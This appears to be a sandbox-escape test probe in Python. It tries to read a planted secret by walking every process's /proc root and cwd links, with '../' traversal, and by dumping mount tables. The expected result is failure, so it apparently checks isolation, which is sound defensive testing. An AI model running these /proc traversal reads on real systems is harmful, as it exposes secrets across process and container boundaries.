# tries: to go through another process's root, working directory or mount table
# success: the planted secret comes back
# expect: wrong_answer
# control: bare
import os

def through(pid, name):
    return lambda: read(f"/proc/{pid}/{name}{'/..' * 30 if name == 'cwd' else ''}{TARGETS.secrets[0]}")

def mounts(pid):
    return lambda: b"".join(read(f"/proc/{pid}/{name}") for name in ("mountinfo", "mounts", "mountstats"))

def answer(clue):
    every = ["self", "thread-self", *numbers()]
    return tried(*(through(pid, name) for pid in every for name in ("root", "cwd")), *map(mounts, every[:20]))
